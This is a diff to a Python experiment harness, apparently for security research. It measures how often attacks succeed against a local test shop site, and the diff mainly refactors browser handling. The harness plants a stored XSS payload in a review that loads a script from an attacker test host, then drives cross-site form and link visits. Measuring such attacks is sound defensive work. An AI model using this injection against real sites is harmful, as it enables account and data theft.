@@ -14,11 +14,11 @@ from typing import Any
 import httpx
 
 from propylon.agora.attacked import FILES
-from propylon.agora.experiment import Contestant, Experiment, Measure, Prepare, Quantity, Reading, Study
+from propylon.agora.experiment import Contestant, Experiment, Prepare, Quantity, Reading, Study
 from propylon.agora.plots import Bar, Bars, Cell, Matrix, Plot
 from propylon.agora.results import Findings, Outcome, Variant, Verdict
 from propylon.agora.said import Said
-from propylon.agora.stage import Pages, Profile, Site, Stage
+from propylon.agora.stage import Pages, Site, Stage, Visitor
 from propylon.agora.stage.sites import PASSWORD, expires_at
 
 APP = "propylon.agora.attacked:application"
@@ -68,7 +68,7 @@ class Scene:
 
     site: Site
     attacker: Pages
-    browser: Profile
+    visitor: Visitor
 
 
 def measure(study: Study) -> None:
@@ -78,12 +78,18 @@ def measure(study: Study) -> None:
         scenes: list[Scene] = []
 
         def attacking(choice: str) -> Prepare:
-            def prepare(stage: Stage, _: ExitStack) -> Measure:
+            def attack() -> Reading:
                 if not scenes:
-                    scenes.append(_scene(stage, stack))
-                return lambda: _attacked(scenes[0], choice, seen.setdefault(choice, {"succeeded": []}))
+                    scenes.append(_scene(study.stage, stack))
+                try:
+                    return _attacked(scenes[0], choice, seen.setdefault(choice, {"succeeded": []}))
+                except Exception:
+                    # The browser may be gone, and the next place is not to suffer for it.
+                    scenes.clear()
+                    stack.close()
+                    raise
 
-            return prepare
+            return lambda *_: attack
 
         contestants = [Contestant(choice, label, attacking(choice)) for choice, label in CHOICES.items()]
         study.compare(contestants, rounds=study.pick(1, 5), warm_up=False)
@@ -92,14 +98,14 @@ def measure(study: Study) -> None:
 
 
 def _scene(stage: Stage, stack: ExitStack) -> Scene:
-    browser = stack.enter_context(stage.lenient_profile())
+    visitor = stack.enter_context(stage.lenient_visitor())
     attacker = stack.enter_context(stage.pages(FILES))
     site = stack.enter_context(stage.propylon({"password_profile": "unsafe_cheapest"}, app=APP))
     inject = f"s=document.createElement('script');s.src='{attacker.elsewhere}/injected.js';document.body.append(s)"
     httpx.post(f"{site.url}/reviews", content=f'Nice! <img src=x onerror="{inject}">').raise_for_status()
     for choice in CHOICES:
         site.sign_up(_email(choice))
-    return Scene(site, attacker, browser)
+    return Scene(site, attacker, visitor)
 
 
 def _email(choice: str) -> str:
@@ -110,16 +116,14 @@ def _attacked(scene: Scene, choice: str, facts: dict[str, Any]) -> Reading:
     """Go through a visit, the attacks during it and after it; return how many had success, by where they came from."""
     scene.attacker.received.clear()
     before = len(_ledger(scene, choice))
-    scene.browser.clear_cookies()
-    page = scene.browser.new_page()
-    try:
+    with scene.visitor.visit() as page:
+        page.context.clear_cookies()
         _sign_in(scene, page, choice)
         for place in ("elsewhere", "next_door"):
-            _visit(scene, choice, place)
+            _visit(scene, page.context.new_page(), choice, place)
+        page.bring_to_front()  # behind the pages of the attacker it is not drawn
         page.click("#reviews")
         _until(page, "robbed")
-    finally:
-        page.close()
     succeeded, lasts_s = _what_it_brings(scene, choice)
     succeeded += _ledger(scene, choice)[before:]
     succeeded += [one.body for one in scene.attacker.received if one.path == "/read"]
@@ -148,17 +152,15 @@ def _sign_in(scene: Scene, page: Any, choice: str) -> None:
     _until(page, "signed in")
 
 
-def _visit(scene: Scene, choice: str, place: str) -> None:
+def _visit(scene: Scene, page: Any, choice: str, place: str) -> None:
     """Let the victim come by on a page of the attacker's, once for each way that leaves it and once for the others."""
     path = "/naive" if choice in NAIVE else ""
     hostile = f"{getattr(scene.attacker, place)}/hostile.html?shop={scene.site.url}&path={path}&from={place}&how="
-    page = scene.browser.new_page()
     page.goto(f"{hostile}quietly")
     _until(page, "done")
     for how in ("form", "link"):
         with page.expect_navigation(url=f"{scene.site.url}/**", wait_until="commit", timeout=WITHIN_MS):
             page.goto(f"{hostile}{how}", wait_until="commit")
-    page.close()
 
 
 def _ledger(scene: Scene, choice: str) -> list[str]:
